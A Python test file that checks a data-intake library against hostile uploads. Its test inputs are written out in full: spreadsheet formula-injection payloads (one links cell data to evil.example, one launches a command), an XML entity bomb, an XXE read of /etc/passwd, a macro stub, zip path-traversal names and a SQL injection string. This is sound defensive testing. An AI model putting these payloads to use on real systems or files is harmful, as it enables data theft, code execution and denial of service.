"""What somebody may put into a file to harm whoever loads it, or opens what we make of it: nothing runs, nothing is
fetched, and nothing is lost without a word."""

import io
import zipfile
from collections.abc import Callable, Mapping

import openpyxl
import polars as pl
import pytest

from intake.export import safe_csv, safe_xlsx
from intake.files import read_tables
from intake.prepared import Prepared
from intake.refusals import refusal_workbook
from tests.intake.loads import HEADER, complaints, load_text, only_refusal

FORMULAS = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
"""Cells that a spreadsheet runs when a CSV is opened."""


def row(reference: str, team: str = "North") -> str:
    return f"{reference},L1,H1,LCRA,Repairs,2026-03-05,{team}"


def teams(prepared: Prepared) -> dict[str, str | None]:
    frame = prepared.kept["complaints"].frame
    return dict(zip(frame["complaint_ref"], frame["team"], strict=True))


@pytest.mark.parametrize("cell", FORMULAS)
def test_no_cell_we_write_is_run_by_a_spreadsheet(cell: str) -> None:
    frame = pl.DataFrame({"complaint_ref": [cell], "team": pl.Series([cell], dtype=pl.Enum([cell]))})
    [line] = pl.read_csv(safe_csv(frame), infer_schema=False).rows()
    assert all(each.startswith("'") for each in line)
    refused = frame.with_columns(pl.col("team").cast(pl.String)).with_columns(refused_because=pl.lit(cell))
    reasons = pl.DataFrame({"file": [cell], "row": [None], "found": [cell]}, schema_overrides={"row": pl.Int64})
    for content in (safe_xlsx({"Cases": frame}), refusal_workbook({"complaints": refused}, reasons)):
        cells = [each for sheet in openpyxl.load_workbook(io.BytesIO(content)) for line in sheet for each in line]
        assert {each.data_type for each in cells if each.value is not None} == {"s"}
        assert b"<f>" not in zipped_parts(content), "no formula in the file itself"


def zipped_parts(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return b"".join(archive.read(name) for name in archive.namelist() if "worksheets" in name)


@pytest.mark.parametrize("cell", [each for each in FORMULAS if each == each.strip()])
def test_a_formula_that_is_loaded_is_text_like_any_other(cell: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    assert teams(load_text(complaints(row("A1", quoted), more="team"))) == {"A1": cell}


@pytest.mark.parametrize("sign", ["\x00", "\x07", "\x1b", "\u202e", "\u2066", "\u200f"])
def test_signs_that_are_no_text_are_taken_out_and_told(sign: str) -> None:
    """NUL bytes, which a database refuses; control characters; signs that turn the direction of reading."""
    prepared = load_text(complaints(row(f"A{sign}1"), row("A2", f"No{sign}rth"), more="team"))
    assert teams(prepared) == {"A1": "North", "A2": "North"}
    assert prepared.warnings["row"].to_list() == [2, 3]


def test_two_references_that_look_alike_once_such_signs_are_gone_are_not_both_kept() -> None:
    prepared = load_text(complaints(row("A1"), row("A\u202e1", "South"), more="team"))
    assert prepared.kept["complaints"].frame.height + prepared.refused_count("complaints") == 2
    assert prepared.refused_count("complaints") >= 1


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-32", "utf-7", "cp037", "cp1252", "latin-1"])
def test_whatever_the_encoding_a_record_arrives_or_is_named(encoding: str) -> None:
    content = complaints(row("A1", "Café"), more="team").encode(encoding)
    prepared = load_text(content)
    kept = prepared.kept.get("complaints")
    assert (kept is not None and kept.frame.height == 1) or not prepared.refused.is_empty()


@pytest.mark.parametrize("bad", [b"\xc0\xaf", b"\xed\xa0\x80", b"\xff\xfe\xfd", b"\xf4\x90\x80\x80"])
def test_bytes_that_are_no_utf8_are_told(bad: bytes) -> None:
    prepared = load_text(
        complaints(row("A1"), more="team").encode() + b"A2,L1,H1,LCRA,Repairs,2026-03-05," + bad + b"\n"
    )
    assert not prepared.warnings.is_empty() or not prepared.refused.is_empty()
    kept = prepared.kept.get("complaints")
    assert kept is None or kept.frame.height == 2


def test_an_oversized_cell_is_refused_with_its_row() -> None:
    prepared = load_text(complaints(row("A1"), row("A2", "x" * 40_000), more="team"))
    assert teams(prepared) == {"A1": "North"}
    refused = only_refusal(prepared)
    assert (refused["row"], refused["column"]) == (3, "team")


def test_a_quote_mark_that_runs_on_from_the_header_loses_no_record_in_silence() -> None:
    prepared = load_text(complaints(row("A1"), row("A2"), more='"team"); DROP TABLE loads; --"'))
    assert "does not part into cells" in only_refusal(prepared)["found"]


# ---- Workbooks -------------------------------------------------------------------------------------------------------

Edit = Callable[[str, bytes], bytes]
BOMB = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "lol">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]>"
)
FROM_DISK = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'


def book(
    *, edit: Edit = lambda _name, part: part, more: Mapping[str, bytes] | None = None, cell: str = "North"
) -> bytes:
    """A workbook of one complaint whose team is `cell`, with parts edited and added."""
    made = openpyxl.Workbook()
    sheet = made.active
    assert sheet is not None
    sheet.title = "complaints"
    sheet.append([*HEADER.split(","), "team"])
    sheet.append([*row("A1", cell).split(",", 6)])
    plain, out = io.BytesIO(), io.BytesIO()
    made.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(out, "w") as target:
        for name in source.namelist():
            target.writestr(name, edit(name, source.read(name)))
        for name, part in (more or {}).items():
            target.writestr(name, part)
    return out.getvalue()


def declaring(declared: bytes, part: str) -> Edit:
    def edit(name: str, content: bytes) -> bytes:
        body = content.split(b"?>", 1)[-1] if content.startswith(b"<?xml") else content
        return declared + body.replace(b"North", b"&j;") if name == part else content

    return edit


@pytest.mark.parametrize("declared", [BOMB, FROM_DISK], ids=["a bomb", "a file of ours"])
@pytest.mark.parametrize(
    "part", ["xl/workbook.xml", "xl/_rels/workbook.xml.rels", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"]
)
def test_declarations_in_a_workbooks_xml_are_never_followed(declared: bytes, part: str) -> None:
    prepared = load_text(book(edit=declaring(declared, part)), name="complaints.xlsx")
    kept = prepared.kept.get("complaints")
    told = str(prepared.refused.to_dicts()) + str(prepared.warnings.to_dicts()) + str(kept and kept.frame.to_dicts())
    assert "root:" not in told and "lollol" not in told
    assert kept is not None or prepared.refused.height == 1, "refused and named, or read without the declaration"


def test_links_to_other_workbooks_are_not_followed_and_their_last_value_is_read() -> None:
    def linked(name: str, part: bytes) -> bytes:
        return part.replace(b"<f>1+1</f>", b"<f>[1]Secret!A1</f>").replace(b"<v></v>", b"<v>7</v>").replace(
            b"<v />", b"<v>7</v>"
        ) if name.startswith("xl/worksheets/") else part  # fmt: skip

    link = (
        b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook '
        b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>'
    )
    more = {"xl/externalLinks/externalLink1.xml": link}
    prepared = load_text(book(edit=linked, more=more, cell="=1+1"), name="complaints.xlsx")
    assert teams(prepared) == {"A1": "7"}


def test_a_formula_without_a_value_is_named_by_its_cell() -> None:
    prepared = load_text(book(cell="=1+1"), name="complaints.xlsx")
    assert teams(prepared) == {"A1": None}
    [told] = prepared.warnings.to_dicts()
    assert (told["row"], told["column"], told["found"]) == (2, "column G", "a formula that was never worked out")


@pytest.mark.parametrize("name", ["complaints.xlsm", "complaints.xlsx"])
def test_macros_are_bytes_nobody_reads(name: str) -> None:
    macro = {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0 Auto_Open: Shell calc"}
    assert teams(load_text(book(more=macro), name=name)) == {"A1": "North"}


# ---- Names -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../../../../etc/cron.d/x.csv",
        "/etc/passwd.csv",
        "C:\\Windows\\x.csv",
        "a\x00b.csv",
        "x\u202evsc.csv",
        "=1+1.csv",
    ],
)
def test_a_name_in_a_zip_is_a_label_and_never_a_path(name: str) -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr(zipfile.ZipInfo(name), complaints(row("A1"), more="team"))
    for raw in read_tables(out.getvalue(), name="up.zip"):
        label = raw.file
        assert label.startswith("up.zip") and ".." not in label and "\\" not in label
        assert label.isprintable()
